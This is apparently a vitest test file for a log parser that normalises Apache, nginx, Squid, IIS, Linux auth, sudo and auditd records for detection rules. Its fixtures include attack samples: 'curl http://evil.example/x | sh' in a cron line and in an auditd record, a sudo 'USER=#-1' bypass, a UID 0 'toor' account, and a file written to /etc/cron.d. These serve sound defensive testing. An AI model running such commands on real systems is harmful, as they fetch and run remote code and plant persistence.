import { describe, expect, test } from 'vitest'
import { type LogEvent, logReader, readLog } from './index.ts'
import { MEANS } from './testing-corpus.ts'

const read = (line: string, more: Partial<typeof MEANS> = {}): LogEvent =>
  readLog(line, { ...MEANS, ...more })
const utc = (text: string): number => Date.parse(text)
const rows = (lines: readonly string[], more: Partial<typeof MEANS> = {}): readonly LogEvent[] => {
  const reader = logReader({ ...MEANS, ...more })
  return [...lines.flatMap((line) => reader.read(line, MEANS.receivedAt)), ...reader.end()]
}

describe('web servers', () => {
  // Apache's documentation of mod_log_config.
  const combined =
    '127.0.0.1 - frank [10/Oct/2025:13:55:36 -0700] "GET /apache_pb.gif?q=%3Cscript%3E&k=%E7%81%AB HTTP/1.0" 200 2326 "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"'

  test('the combined format, its query decoded once and kept raw', () => {
    expect(read(combined)).toMatchObject({
      format: 'web-access',
      category: 'webserver',
      time: utc('2025-10-10T20:55:36Z'),
      timeFrom: 'event',
      damage: [],
      fields: {
        'c-ip': '127.0.0.1',
        'cs-username': 'frank',
        'cs-method': 'GET',
        'cs-uri-stem': '/apache_pb.gif',
        // SigmaHQ's rules ask it for queries and for paths, decoded and as they came.
        'cs-uri-query': [
          'q=<script>&k=火',
          '/apache_pb.gif?q=%3Cscript%3E&k=%E7%81%AB',
          '/apache_pb.gif?q=<script>&k=火',
        ],
        'c-uri': '/apache_pb.gif?q=%3Cscript%3E&k=%E7%81%AB',
        'sc-status': 200,
        'cs-user-agent': 'Mozilla/4.08 [en] (Win98; I ;Nav)',
        'cs-referer': 'http://www.example.com/start.html',
      },
      ecs: {
        'source.ip': '127.0.0.1',
        'http.response.status_code': 200,
        'http.request.method': 'GET',
      },
    })
  })
  test('a virtual host before, X-Forwarded-For behind, IPv6, a response time, syslog around it', () => {
    expect(read(`www.example.jp:443 ${combined} "203.0.113.9, 10.0.0.1" 0.003`)).toMatchObject({
      fields: { 'cs-host': 'www.example.jp', 'c-ip': '127.0.0.1', rest: '0.003' },
      ecs: { 'source.ip': '203.0.113.9', 'url.domain': 'www.example.jp' },
    })
    expect(read(combined.replace('127.0.0.1', '2001:db8::7')).ecs['source.ip']).toBe('2001:db8::7')
    expect(read(`<190>Nov 22 09:00:00 web01 nginx: ${combined}`)).toMatchObject({
      format: 'web-access',
      host: 'web01',
      service: 'nginx',
    })
  })
  test('requests that are none: empty, a dash, the bytes of TLS', () => {
    for (const request of ['', '-', String.raw`\x16\x03\x01\x02`]) {
      const event = read(`198.51.100.7 - - [22/Nov/2026:09:00:00 +0900] "${request}" 400 - "-" "-"`)
      expect([
        event.format,
        event.fields['sc-status'],
        event.fields['cs-method'],
        event.damage,
      ]).toEqual(['web-access', 400, undefined, []])
    }
  })
  test('quotes as Apache and as nginx escape them', () => {
    for (const quote of ['\\"', '\\x22'])
      expect(read(combined.replace('Mozilla/4.08', `a${quote}b`)).fields['cs-user-agent']).toBe(
        'a"b [en] (Win98; I ;Nav)',
      )
  })
  test('error logs of Apache and nginx', () => {
    expect(
      read(
        '[Sun Nov 22 09:00:00.123456 2026] [core:error] [pid 35708:tid 4328636416] [client 198.51.100.7:4321] File does not exist: /usr/local/apache2/htdocs/favicon.ico',
      ),
    ).toMatchObject({
      format: 'web-error',
      service: 'apache',
      severity: 'medium',
      time: utc('2026-11-22T00:00:00.123Z'),
      timeFrom: 'zone-assumed',
      message: 'File does not exist: /usr/local/apache2/htdocs/favicon.ico',
      ecs: { 'source.ip': '198.51.100.7' },
    })
    expect(
      read(
        '2026/11/22 09:00:00 [error] 1234#0: *56 open() "/x" failed (2: No such file or directory), client: 198.51.100.7, server: example.jp, request: "GET /x HTTP/1.1", host: "example.jp"',
      ),
    ).toMatchObject({
      service: 'nginx',
      fields: { server: 'example.jp', request: 'GET /x HTTP/1.1' },
      ecs: { 'source.ip': '198.51.100.7' },
    })
  })
  test('Squid', () => {
    expect(
      read(
        '1795305601.123    456 10.0.0.5 TCP_DENIED/403 1234 CONNECT evil.example:443 hanako HIER_NONE/- text/html',
      ),
    ).toMatchObject({
      format: 'squid',
      category: 'proxy',
      time: 1795305601123,
      fields: { 'cs-host': 'evil.example', 'sc-status': 403, 'cs-username': 'hanako' },
      ecs: { 'event.outcome': 'failure' },
    })
  })
  test('IIS: the head names the columns and may change; blanks are plus signs; times are UTC', () => {
    const found = rows([
      '#Software: Microsoft Internet Information Services 10.0',
      '#Version: 1.0',
      '#Date: 2026-11-22 00:00:00',
      '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
      '2026-11-22 00:00:01 10.0.0.1 POST /owa/auth.owa a=%41 443 - 198.51.100.7 Mozilla/5.0+(Windows+NT+10.0) - 302 0 0 31',
      '#Fields: time c-ip cs-method cs-uri-stem sc-status',
      '00:00:02 198.51.100.8 GET /ecp/ 200',
      'no row at all',
    ])
    expect(found.map(({ format }) => format)).toEqual(['iis', 'iis', 'unparsed'])
    expect(found[2]?.damage).toEqual(['columns', 'unparsed'])
    expect(found[0]).toMatchObject({
      time: utc('2026-11-22T00:00:01Z'),
      category: 'webserver',
      fields: {
        'cs-user-agent': 'Mozilla/5.0 (Windows NT 10.0)',
        'cs(User-Agent)': 'Mozilla/5.0+(Windows+NT+10.0)',
        'sc-status': 302,
        'cs-uri-query': ['a=A', '/owa/auth.owa?a=%41', '/owa/auth.owa?a=A'],
      },
      ecs: { 'source.ip': '198.51.100.7', 'destination.port': 443 },
    })
    expect(found[1]).toMatchObject({
      time: utc('2026-11-22T00:00:02Z'),
      fields: { 'cs-uri-stem': '/ecp/' },
    })
  })
})

describe('Linux', () => {
  const auth = (tag: string, text: string): LogEvent =>
    read(`<86>Nov 22 09:00:00 srv01 ${tag}: ${text}`)
  test.each([
    [
      'sshd[99]',
      'Accepted publickey for hanako from 198.51.100.7 port 4321 ssh2: ED25519 SHA256:abc',
      'hanako',
      '198.51.100.7',
      'success',
      'sshd',
    ],
    [
      'sshd[99]',
      'Failed password for invalid user oracle from 2001:db8::7 port 4321 ssh2',
      'oracle',
      '2001:db8::7',
      'failure',
      'sshd',
    ],
    [
      'sshd-session[99]',
      'Invalid user admin from 198.51.100.7 port 4321',
      'admin',
      '198.51.100.7',
      'failure',
      'sshd',
    ],
    [
      'sshd[99]',
      'Disconnected from authenticating user root 198.51.100.7 port 4321 [preauth]',
      'root',
      '198.51.100.7',
      undefined,
      'sshd',
    ],
    [
      'sshd[99]',
      'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7  user=hanako',
      'hanako',
      '198.51.100.7',
      'failure',
      'sshd',
    ],
    [
      'sudo',
      'pam_unix(sudo:session): session opened for user root(uid=0) by hanako(uid=1000)',
      'root',
      undefined,
      'success',
      'sudo',
    ],
    ['su[5]', '(to root) hanako on pts/0', 'hanako', undefined, 'success', 'auth'],
    ['su', 'FAILED SU (to root) hanako on pts/0', 'hanako', undefined, 'failure', 'auth'],
    ['systemd-logind[5]', 'New session 12 of user hanako.', 'hanako', undefined, 'success', 'auth'],
    [
      'CRON[5]',
      '(root) CMD (curl http://evil.example/x | sh)',
      'root',
      undefined,
      undefined,
      'cron',
    ],
  ])('%s: %s', (tag, text, user, from, outcome, service) => {
    const { ecs, product, service: found, format } = auth(tag, text)
    expect([
      format,
      product,
      found,
      ecs['user.name'],
      ecs['source.ip'],
      ecs['event.outcome'],
    ]).toEqual(['linux-auth', 'linux', service, user, from, outcome])
  })
  test('sudo: the fields that rules ask for; what sudo refuses', () => {
    expect(
      auth(
        'sudo',
        '  hanako : TTY=pts/0 ; PWD=/home/hanako ; USER=#-1 ; COMMAND=/bin/sh -c id ; ls',
      ),
    ).toMatchObject({
      fields: { USER: '#-1', PWD: '/home/hanako', COMMAND: '/bin/sh -c id ; ls' },
      ecs: {
        'event.outcome': 'success',
        'process.command_line': '/bin/sh -c id ; ls',
        'user.target.name': '#-1',
      },
    })
    expect(
      auth(
        'sudo',
        '  taro : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      ),
    ).toMatchObject({
      fields: { reason: 'user NOT in sudoers' },
      ecs: { 'event.outcome': 'failure' },
    })
  })
  test('accounts; a program that only Linux has; one that nobody knows', () => {
    expect(
      auth(
        'useradd[7]',
        'new user: name=toor, UID=0, GID=0, home=/home/toor, shell=/bin/bash, from=/dev/pts/1',
      ),
    ).toMatchObject({
      ecs: { 'event.category': 'iam', 'user.target.name': 'toor', 'event.action': 'new-user' },
      fields: { uid: '0' },
    })
    expect(auth('kernel', 'x')).toMatchObject({
      format: 'syslog',
      product: 'linux',
      service: 'syslog',
    })
    expect(auth('mydaemon', 'x')).toMatchObject({ format: 'syslog', product: null })
  })

  const serial = 'audit(1795305601.123:456)'
  test('audit records of one event are one event, hexadecimal arguments are words', () => {
    const found = rows([
      `type=SYSCALL msg=${serial}: arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=100 pid=101 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=1 comm="sh" exe="/usr/bin/dash" key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="hanako" UID="root"`,
      `type=SYSCALL msg=audit(1795305601.124:457): arch=c000003e syscall=42 success=yes exit=0 a0=3 pid=200 ppid=1 uid=33 comm="php" exe="/usr/bin/php"`,
      `type=EXECVE msg=${serial}: argc=3 a0="sh" a1="-c" a2=${Buffer.from('curl http://evil.example/x | sh').toString('hex').toUpperCase()}`,
      `type=CWD msg=${serial}: cwd="/tmp"`,
      `type=SOCKADDR msg=audit(1795305601.124:457): saddr=02000050CB0071050000000000000000`,
      `type=PATH msg=${serial}: item=0 name="/usr/bin/sh" nametype=NORMAL`,
      `type=PATH msg=${serial}: item=1 name="/lib64/ld-linux-x86-64.so.2" nametype=NORMAL`,
      `type=PROCTITLE msg=${serial}: proctitle=${Buffer.from('sh\0-c\0x').toString('hex').toUpperCase()}`,
      `type=EOE msg=${serial}: `,
      `node=srv01 type=USER_LOGIN msg=audit(1795305602.000:458): pid=5 uid=0 auid=4294967295 msg='op=login acct="hanako" exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=ssh res=failed'`,
    ])
    expect(found.map(({ fields }) => fields['serial'])).toEqual(['456', '458', '457'])
    const [execve, login, connect] = found
    expect(execve).toMatchObject({
      format: 'auditd',
      product: 'linux',
      service: 'auditd',
      category: 'process_creation',
      time: 1795305601123,
      fields: {
        type: ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'],
        a0: 'sh',
        a2: 'curl http://evil.example/x | sh',
        syscall_a0: '55d',
        SYSCALL: 'execve',
        Image: '/usr/bin/dash',
        CommandLine: 'sh -c curl http://evil.example/x | sh',
        User: 'root',
        CurrentDirectory: '/tmp',
        name: ['/usr/bin/sh', '/lib64/ld-linux-x86-64.so.2'],
        proctitle: 'sh -c x',
      },
      ecs: { 'user.name': 'hanako', 'process.name': 'dash', 'event.outcome': 'success' },
    })
    expect(login).toMatchObject({
      host: 'srv01',
      fields: { acct: 'hanako', res: 'failed' },
      ecs: { 'event.outcome': 'failure', 'source.ip': '198.51.100.7' },
    })
    expect(connect).toMatchObject({
      category: 'network_connection',
      fields: {
        SYSCALL: 'connect',
        DestinationIp: '203.0.113.5',
        DestinationPort: 80,
        Initiated: 'true',
      },
    })
  })
  test('a single audit record, and a file that is made', () => {
    expect(read(`type=EXECVE msg=${serial}: argc=2 a0="cat" a1[0]=2F65 a1[1]=7463`)).toMatchObject({
      format: 'auditd',
      fields: { type: 'EXECVE', a0: 'cat' },
    })
    const [made] = rows([
      `type=SYSCALL msg=${serial}: arch=c000003e syscall=257 success=yes pid=1 exe="/bin/x"`,
      `type=CWD msg=${serial}: cwd="/etc"`,
      `type=PATH msg=${serial}: item=0 name="/etc" nametype=PARENT`,
      `type=PATH msg=${serial}: item=1 name="cron.d/evil" nametype=CREATE`,
    ])
    expect(made).toMatchObject({
      category: 'file_event',
      fields: { TargetFilename: '/etc/cron.d/evil', SYSCALL: 'openat' },
    })
  })
})
